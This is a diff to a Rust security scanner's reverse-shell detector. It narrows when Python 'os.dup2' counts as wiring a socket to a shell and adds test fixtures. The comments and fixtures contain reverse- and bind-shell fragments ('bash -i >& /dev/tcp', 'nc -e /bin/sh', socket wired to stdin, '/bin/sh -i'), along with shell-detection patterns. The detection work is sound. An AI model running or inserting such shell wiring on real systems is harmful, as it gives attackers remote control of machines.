@@ -3,7 +3,9 @@
 //! with the socket as stdin — or a classic one-liner in a string (`bash -i >&
 //! /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo /tmp/f`).
 //!
-//! Python: needs both a socket connect and a shell wiring in code in the same file.
+//! Python: needs both a socket connect and a shell wiring in code in the same file; a `dup2`
+//! is a wiring when the descriptor it copies is a socket's (the name connects or is made by a
+//! socket call) or the file starts a shell, not when it captures output in a temporary file.
 //! Tests are not skipped (a reverse shell has no business in tests either) but
 //! capped by place: tests/docs/CI medium, shipped scripts high, data files such as
 //! guardrail keyword lists low.
@@ -18,7 +20,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "network.reverse-shell",
-    revision: 1,
+    revision: 2,
     title: "Opens a reverse shell.",
     category: Category::Network,
     severity: Severity::Critical,
@@ -94,11 +96,39 @@ impl Detector for ReverseShell {
             if !src.is_code(m.start()) {
                 continue;
             }
+            if m.as_str().contains("dup2") && !dup2_wires_a_socket(file.text, m.as_str()) {
+                continue;
+            }
             n += 1;
             let ind = m.as_str().split('(').next().unwrap_or("").trim();
             hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
+}
+
+/// The name whose descriptor a `dup2(<name>.fileno(), …)` copies.
+static DUP2_NAME: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"dup2\s*\(\s*(\w+)\.fileno").expect("dup2 name"));
+/// A shell started by the file: `/bin/sh`, `bash -i`, `cmd.exe`, `powershell`, `"sh"`.
+static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)/bin/(?:ba|z|da)?sh(?-u:\b)|(?-u:\b)(?:ba|z)?sh\s+-i(?-u:\b)|(?-u:\b)cmd(?:\.exe)?['"]|powershell|['"](?:ba|z)?sh['"]"#).expect("shell")
+});
+
+/// Whether a `dup2(<name>.fileno(), 0|1|2)` wires a socket to the standard streams: `<name>`
+/// connects or is made by a socket call (`socket.socket`, `create_connection`, `accept()`,
+/// `makefile`, `wrap_socket`) in the file, or the file also starts a shell. A temporary file or
+/// `/dev/null` copied onto stdout/stderr (capturing a child's output, a daemon's logs) is no
+/// reverse shell, even in a file that connects somewhere else.
+fn dup2_wires_a_socket(text: &str, wire: &str) -> bool {
+    let Some(name) = DUP2_NAME.captures(wire).map(|c| c.get(1).expect("name").as_str()) else {
+        return true;
+    };
+    if SHELL.is_match(text) {
+        return true;
+    }
+    let made = Regex::new(&format!(
+        r"(?-u:\b){name}\s*\.\s*connect(?:_ex)?\s*\(|(?-u:\b){name}\s*(?:,\s*\w+\s*)?=\s*[^\n]*(?:socket|create_connection|accept\s*\(|makefile|wrap_socket)"
+    ));
+    made.map_or(true, |re| re.is_match(text))
 }
 
 #[cfg(test)]
@@ -198,6 +228,41 @@ mod tests {
                     Runtime,
                     "s.connect(a)\nos.dup2(rd.fileno(), r)\n",
                     None,
+                ),
+                (
+                    "std streams captured in temporary files, in a module with a client's connect",
+                    "pkg/utils.py",
+                    Runtime,
+                    "self._sio.connect(addr)\nstdout = tempfile.SpooledTemporaryFile(mode='w+')\nstderr = tempfile.SpooledTemporaryFile(mode='w+')\nos.dup2(stdout.fileno(), 1)\nos.dup2(stderr.fileno(), 2)\n",
+                    None,
+                ),
+                (
+                    "a log file onto stdout of a daemon that connects",
+                    "pkg/daemon.py",
+                    Runtime,
+                    "conn.connect(db)\nlog = open(path, 'a')\nos.dup2(log.fileno(), sys.stdout.fileno())\n",
+                    None,
+                ),
+                (
+                    "socket from create_connection wired to stdin",
+                    "pkg/x.py",
+                    Runtime,
+                    "c = socket.create_connection((H, 4444))\nos.dup2(c.fileno(), 0)\nos.dup2(c.fileno(), 1)\n",
+                    Some((2, "os.dup2", Critical)),
+                ),
+                (
+                    "an accepted connection wired to the streams (bind shell)",
+                    "setup.py",
+                    InstallTime,
+                    "srv.bind(a)\nconn, addr = srv.accept()\nx.connect(b)\nos.dup2(conn.fileno(), 0)\n",
+                    Some((4, "os.dup2", Critical)),
+                ),
+                (
+                    "a name from a helper, but the file starts a shell",
+                    "pkg/x.py",
+                    Runtime,
+                    "s = get_channel()\ns.connect((H, P))\nf = s\nos.dup2(f.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
+                    Some((4, "os.dup2", Critical)),
                 ),
             ],
         );
